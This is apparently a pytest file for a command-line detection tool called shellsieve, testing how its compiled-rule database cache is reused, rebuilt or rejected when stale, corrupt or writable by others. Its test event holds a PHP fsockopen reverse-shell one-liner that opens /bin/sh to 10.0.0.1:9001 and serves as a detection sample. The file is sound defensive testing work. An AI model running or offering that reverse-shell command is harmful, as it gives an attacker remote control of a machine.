"""The on-disk database cache: reused when nothing changed, rebuilt when stale or corrupt, never trusted."""

from __future__ import annotations

import pickle
import shutil
import subprocess
import sys
from pathlib import Path

import msgspec
import pytest

from conftest import PATTERNS, PHP_FSOCKOPEN, rule_ids, run_events
from shellsieve.cli import build
from shellsieve.compile import ruleset as ruleset_module
from shellsieve.compile.cache import CacheEntry, DatabaseCache, cache_key, read_checked, write_checked
from shellsieve.compile.ruleset import compile_rules
from shellsieve.model.fields import FIELD_MAPS
from shellsieve.rules.discover import load_rules, rule_files

PHP = {"process": {"command_line": "php -r '$s=fsockopen(\"10.0.0.1\",9001);exec(\"/bin/sh -i <&3 >&3 2>&3\");'"}}


@pytest.fixture
def rules_dir(tmp_path: Path) -> Path:
    d = tmp_path / "rules"
    shutil.copytree(PATTERNS, d, ignore=shutil.ignore_patterns("__init__.py", "__pycache__"))
    return d


def _fires(ruleset: object) -> bool:
    return rule_ids(run_events(ruleset, [PHP])[0]) == [PHP_FSOCKOPEN]  # type: ignore[arg-type]


def test_cold_then_warm(rules_dir: Path, tmp_path: Path) -> None:
    """The second build loads the database the first one wrote, and it matches the same events."""
    cache = tmp_path / "cache"
    _, cold, _ = build([rules_dir], cache)
    _, warm, _ = build([rules_dir], cache)
    assert (cold.cache_status, warm.cache_status) == ("cold", "warm")
    assert len(list(cache.glob("*.hsdb"))) == 1
    assert cold.pattern_count == warm.pattern_count and _fires(warm)


def test_changed_rule_file_is_a_new_key(rules_dir: Path, tmp_path: Path) -> None:
    cache = tmp_path / "cache"
    build([rules_dir], cache)
    f = next(rules_dir.rglob("*.xml"))
    f.write_text(f.read_text().replace("fsockopen", "fsockopen_x"))
    _, again, _ = build([rules_dir], cache)
    assert again.cache_status == "cold" and len(list(cache.glob("*.hsdb"))) == 2


@pytest.mark.parametrize("damage", ["garbage", "truncate", "flip_database_byte"])
def test_corrupt_cache_is_rebuilt(rules_dir: Path, tmp_path: Path, damage: str) -> None:
    """Hyperscan loads a damaged database and fails only when scanning: the checksum catches it first."""
    cache = tmp_path / "cache"
    build([rules_dir], cache)
    entry = _entry_file(cache)
    data = bytearray(entry.read_bytes())
    if damage == "garbage":
        data = bytearray(b"not a cache")
    elif damage == "truncate":
        data = data[: len(data) // 2]
    else:
        data[len(data) // 2] ^= 0xFF  # inside the serialized database, the bulk of the file
    entry.write_bytes(bytes(data))
    _, rebuilt, _ = build([rules_dir], cache)
    assert rebuilt.cache_status == "corrupt" and _fires(rebuilt)
    _, warm, _ = build([rules_dir], cache)
    assert warm.cache_status == "warm" and _fires(warm)


def test_stale_entry_is_not_used(rules_dir: Path, tmp_path: Path) -> None:
    """An entry built from other patterns under the same key (e.g. a code change) is rebuilt."""
    key = cache_key(rule_files([rules_dir]), FIELD_MAPS)
    rules, _ = load_rules([rules_dir])
    compile_rules(rules[:1], DatabaseCache(tmp_path, key))
    ruleset, _ = compile_rules(rules, cache := DatabaseCache(tmp_path, key))
    assert cache.status == "stale" and _fires(ruleset)


def test_unwritable_cache_dir_still_runs(rules_dir: Path, tmp_path: Path) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("")
    _, ruleset, _ = build([rules_dir], blocker / "cache")
    assert ruleset.cache_status == "cold" and _fires(ruleset)


def test_check_reports_cache_status(rules_dir: Path, tmp_path: Path) -> None:
    args = [str(Path(sys.executable).parent / "shellsieve"), "check", "--format", "text", "--quiet",
            "--rules", str(rules_dir), "--cache-dir", str(tmp_path / "c")]
    first = subprocess.run(args, capture_output=True, text=True, check=True).stdout
    second = subprocess.run(args, capture_output=True, text=True, check=True).stdout
    off = subprocess.run([*args, "--no-cache"], capture_output=True, text=True, check=True).stdout
    assert "(cache: cold)" in first and "(cache: warm)" in second and "(cache: off)" in off


@pytest.mark.parametrize("writable", ["file", "directory"])
def test_an_entry_others_can_write_is_not_loaded(rules_dir: Path, tmp_path: Path, writable: str) -> None:
    """An entry holds pickled rules and serialized databases: one that another user could have
    written (group/world-writable file or directory) is never read, only rebuilt."""
    cache = tmp_path / "cache"
    build([rules_dir], cache)
    entry = _entry_file(cache)
    (entry if writable == "file" else cache).chmod(0o666 if writable == "file" else 0o777)
    _, again, _ = build([rules_dir], cache)
    assert again.cache_status == "untrusted" and _fires(again)


def _entry_file(cache: Path) -> Path:
    (entry,) = (p for p in cache.glob("*.hsdb") if not p.name.endswith(".single.hsdb"))
    return entry


def _rewrite_entry(path: Path, **changes: object) -> None:
    """Change fields of an entry and write it back with a valid checksum: damage the sha256 cannot see."""
    payload = read_checked(path)
    assert isinstance(payload, bytes)
    entry = msgspec.msgpack.decode(payload, type=CacheEntry)
    write_checked(path, msgspec.msgpack.encode(msgspec.structs.replace(entry, **changes)))


class TestLayout:
    def test_warm_start_derives_no_layout(self, rules_dir: Path, tmp_path: Path,
                                          monkeypatch: pytest.MonkeyPatch) -> None:
        """A warm build decodes the pattern layout kept in the entry: it derives no field pattern and
        no line layout, and matches as the cold build did."""
        cache = tmp_path / "cache"
        _, cold, cold_diags = build([rules_dir], cache)

        def forbidden(*_: object) -> None:
            raise AssertionError("derived on a warm start")

        monkeypatch.setattr(ruleset_module, "_layout", forbidden)
        monkeypatch.setattr(ruleset_module, "_field_patterns_for", forbidden)
        _, warm, warm_diags = build([rules_dir], cache)
        assert warm.cache_status == "warm" and _fires(warm)
        assert warm.pattern_count == cold.pattern_count and warm_diags == cold_diags

    @pytest.mark.parametrize("layout", [b"\x80not a pickle", b""])
    def test_bad_layout_is_derived_again(self, rules_dir: Path, tmp_path: Path, layout: bytes) -> None:
        """A layout that does not load (or none) is derived from the rules; the databases, built from
        the same patterns, are still used."""
        cache = tmp_path / "cache"
        build([rules_dir], cache)
        _rewrite_entry(_entry_file(cache), layout=layout)
        _, again, _ = build([rules_dir], cache)
        assert again.cache_status == "warm" and _fires(again)

    def test_layout_of_other_patterns_is_not_used(self, rules_dir: Path, tmp_path: Path,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
        """A kept layout whose patterns are not the ones its databases were compiled from (a bug, or
        a layout of other rules) is derived again, not used: its digest is checked first."""
        cache = tmp_path / "cache"
        build([rules_dir], cache)
        path = _entry_file(cache)
        entry = msgspec.msgpack.decode(read_checked(path), type=CacheEntry)  # type: ignore[arg-type]
        saved = pickle.loads(entry.layout)
        saved.layout.fields[0].expression = b"not-the-compiled-pattern"
        _rewrite_entry(path, layout=pickle.dumps(saved))
        derived: list[int] = []
        layout = ruleset_module._layout
        monkeypatch.setattr(ruleset_module, "_layout", lambda kept: derived.append(1) or layout(kept))
        _, again, _ = build([rules_dir], cache)
        assert derived == [1] and again.cache_status == "warm" and _fires(again)


class TestSingleMatchTwin:
    def test_built_when_first_scanned_then_kept(self, rules_dir: Path, tmp_path: Path) -> None:
        """The SINGLEMATCH twin is not compiled at start; its first scan compiles it and keeps it
        beside the entry, and the next start loads it from there."""
        cache = tmp_path / "cache"
        _, first, _ = build([rules_dir], cache)
        twin = first.single_database
        assert twin is not None and not twin.built and not list(cache.glob("*.single.hsdb"))
        line = msgspec.json.encode(PHP)
        hits: list[int] = []
        twin.scan(line, match_event_handler=lambda pid, *_: hits.append(pid))
        assert twin.compiled and hits and len(list(cache.glob("*.single.hsdb"))) == 1
        _, second, _ = build([rules_dir], cache)
        again: list[int] = []
        assert second.single_database is not None
        second.single_database.scan(line, match_event_handler=lambda pid, *_: again.append(pid))
        assert not second.single_database.compiled and sorted(again) == sorted(hits)

    def test_check_stores_the_twin_a_run_then_loads(self, rules_dir: Path, tmp_path: Path) -> None:
        """`check` leaves the cache ready for `run`: the entry and its twin, so a run shorter than the
        twin's compile does not compile it again in the background (with --no-cache it writes nothing)."""
        cache = tmp_path / "cache"
        args = [str(Path(sys.executable).parent / "shellsieve"), "check", "--quiet", "--format", "json",
                "--rules", str(rules_dir)]
        subprocess.run([*args, "--no-cache"], capture_output=True, check=True)
        subprocess.run([*args, "--cache-dir", str(cache)], capture_output=True, check=True)
        assert len(list(cache.glob("*.single.hsdb"))) == 1
        _, warm, _ = build([rules_dir], cache)
        assert warm.cache_status == "warm" and warm.single_database is not None
        warm.single_database.database()
        assert not warm.single_database.compiled

    def test_damaged_twin_is_compiled_again(self, rules_dir: Path, tmp_path: Path) -> None:
        cache = tmp_path / "cache"
        _, first, _ = build([rules_dir], cache)
        assert first.single_database is not None
        first.single_database.database()
        (twin_file,) = cache.glob("*.single.hsdb")
        data = bytearray(twin_file.read_bytes())
        data[len(data) // 2] ^= 0xFF
        twin_file.write_bytes(bytes(data))
        _, second, _ = build([rules_dir], cache)
        assert second.single_database is not None
        second.single_database.database()
        assert second.single_database.compiled


class TestSamePatterns:
    def test_changed_file_with_the_same_patterns_compiles_nothing(self, rules_dir: Path, tmp_path: Path,
                                                                  monkeypatch: pytest.MonkeyPatch) -> None:
        """A rule file changed where no pattern did (a comment) is a new entry, but its databases are
        those of the entry compiled from the same patterns, found by their digest."""
        cache = tmp_path / "cache"
        _, first, _ = build([rules_dir], cache)
        f = sorted(rules_dir.rglob("*.yml"))[0]
        f.write_text(f.read_text(encoding="utf-8") + "# a comment\n", encoding="utf-8")

        def forbidden(*_: object) -> None:
            raise AssertionError("compiled although the patterns are the same")

        monkeypatch.setattr(ruleset_module, "compile_database", forbidden)
        _, again, _ = build([rules_dir], cache)
        assert again.cache_status == "cold" and _fires(again) and again.pattern_count == first.pattern_count
        assert len(list(cache.glob("*.hsdb"))) == 2  # the new entry is written, databases and all

    def test_damaged_by_patterns_entry_is_compiled(self, rules_dir: Path, tmp_path: Path,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
        """A damaged entry under the patterns' digest is not used: the databases are compiled."""
        cache = tmp_path / "cache"
        build([rules_dir], cache)
        (link,) = (cache / "by-patterns").glob("*.hsdb")
        link.unlink()  # the entry itself keeps its own name: only this one is damaged
        link.write_bytes(b"\0" * 64)
        link.chmod(0o600)
        f = sorted(rules_dir.rglob("*.yml"))[0]
        f.write_text(f.read_text(encoding="utf-8") + "# a comment\n", encoding="utf-8")
        compiled: list[int] = []
        compile_database = ruleset_module.compile_database
        monkeypatch.setattr(ruleset_module, "compile_database",
                            lambda patterns: compiled.append(1) or compile_database(patterns))
        _, again, _ = build([rules_dir], cache)
        assert again.cache_status == "cold" and _fires(again) and compiled == [1, 1]


def test_from_entry_derives_and_compiles_nothing(rules_dir: Path, tmp_path: Path,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    """A reload's entry (build_entry, in memory) becomes a Ruleset with no layout derived and no
    database compiled: the kept layout and the serialized databases are used."""
    from shellsieve.build import build_entry, from_entry
    from shellsieve.model.selection import Selection

    blob = build_entry([rules_dir], None, Selection())

    def forbidden(*_: object) -> None:
        raise AssertionError("derived or compiled in from_entry")

    for name in ("_layout", "_field_patterns_for", "compile_database"):
        monkeypatch.setattr(ruleset_module, name, forbidden)
    _, ruleset, _ = from_entry(blob)
    assert _fires(ruleset)
